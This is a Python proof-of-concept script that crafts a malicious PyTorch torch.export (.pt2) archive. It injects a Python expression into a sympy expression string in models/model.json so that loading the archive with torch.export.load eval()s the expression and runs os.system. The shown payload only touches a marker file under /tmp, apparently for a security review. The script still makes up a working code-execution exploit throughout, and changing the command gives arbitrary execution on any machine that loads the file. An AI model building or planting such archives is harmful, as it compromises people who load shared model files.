# torch.export archive (.pt2) with a dynamic dimension: models/model.json holds sympy expressions as
# strings (range_constraints keys, SymInt expr_str) that torch.export.load passes to sympy.sympify,
# which eval()s them. One of them is replaced by a Python expression that runs the payload and
# still evaluates to the original symbol.
import torch, zipfile, os, json
here = os.path.dirname(os.path.abspath(__file__))
class M(torch.nn.Module):
    def __init__(s):
        super().__init__(); s.l = torch.nn.Linear(2, 2)
    def forward(s, x): return s.l(x)
base = os.path.join(here, "dyn.pt2")
if not os.path.exists(base):
    b = torch.export.Dim("b", min=2, max=64)
    ep = torch.export.export(M(), (torch.randn(4, 2),), dynamic_shapes={"x": {0: b}})
    torch.export.save(ep, base)
zin = zipfile.ZipFile(base)
SYM = "Symbol('s77', positive=True, integer=True)"
evil = "(__import__('os').system('touch /tmp/review39b/pwned_pt2_sympy') and 0) or " + SYM
with zipfile.ZipFile(os.path.join(here, "pt2_sympy.pt2"), "w") as zo:
    for i in zin.infolist():
        d = zin.read(i.filename)
        if i.filename.endswith("models/model.json"):
            t = d.decode()
            old = '"expr_str": ' + json.dumps(SYM)
            n = t.count(old)
            t = t.replace(old, '"expr_str": ' + json.dumps(evil), 1)
            print("replaced", n)
            d = t.encode()
        zo.writestr(i.filename, d)
